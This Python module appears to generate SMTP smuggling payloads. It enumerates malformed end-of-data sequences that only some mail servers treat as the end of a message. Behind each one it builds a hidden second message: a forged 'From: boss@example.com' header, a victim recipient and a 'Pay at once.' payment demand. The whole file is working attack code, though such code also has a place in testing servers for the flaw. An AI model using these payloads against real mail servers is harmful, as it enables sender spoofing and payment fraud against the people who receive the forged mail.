"""Ends of data that one server recognises and another doesn't, and a second message behind each."""

import itertools
from collections.abc import Iterator
from typing import Final, NamedTuple

# What may be taken for a line end, and what may be ignored.
PIECES: Final = {
    "crlf": b"\r\n",
    "lf": b"\n",
    "cr": b"\r",
    "crcrlf": b"\r\r\n",
    "lfcr": b"\n\r",
    "crlfcr": b"\r\n\r",
    "lflf": b"\n\n",
    "crnul-lf": b"\r\0\n",
}
END: Final = b"\r\n.\r\n"
# With correct line ends, but a dot that isn't the whole line; only some servers see a dot in these.
DOTS: Final = {
    "dot-space": b"\r\n. \r\n",
    "dot-tab": b"\r\n.\t\r\n",
    "dot-nul": b"\r\n.\0\r\n",
    "nul-dot": b"\r\n\0.\r\n",
    "two-dots": b"\r\n..\r\n",
    "three-dots": b"\r\n...\r\n",
    "dot-formfeed": b"\r\n.\x0c\r\n",
    "verticaltab-dot": b"\x0b.\x0b",
    "formfeed-dot": b"\x0c.\x0c",
    "next-line-dot": b"\x85.\x85",
    "utf8-next-line-dot": b"\xc2\x85.\xc2\x85",
    "line-separator-dot": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "escaped": b"=0D=0A.=0D=0A",
    "dot-backspace": b"\r\n.\x08\r\n",
    "dot-delete": b"\r\n.\x7f\r\n",
    "full-stop": b"\r\n\xe3\x80\x82\r\n",
}


class Form(NamedTuple):
    name: str
    end: bytes

    @property
    def is_true_end(self) -> bool:
        """In DATA; in a chunk nothing is."""
        return END in self.end


def forms() -> list[Form]:
    return list(_forms())


def _forms() -> Iterator[Form]:
    for (before, first), (after, second) in itertools.product(PIECES.items(), PIECES.items()):
        yield Form(f"{before}-dot-{after}", first + b"." + second)
    for name, end in DOTS.items():
        yield Form(name, end)


def smuggled(form: Form, victim: str) -> bytes:
    """What a server answers next if it has taken the form for an end."""
    lines = [
        b"MAIL FROM:<mallory@example.com>",
        f"RCPT TO:<{victim}>".encode(),
        b"DATA",
        b"From: boss@example.com",
        b"Subject: smuggled by " + form.name.encode(),
        b"",
        b"Pay at once.",
    ]
    return b"\r\n".join(lines) + b"\r\n"
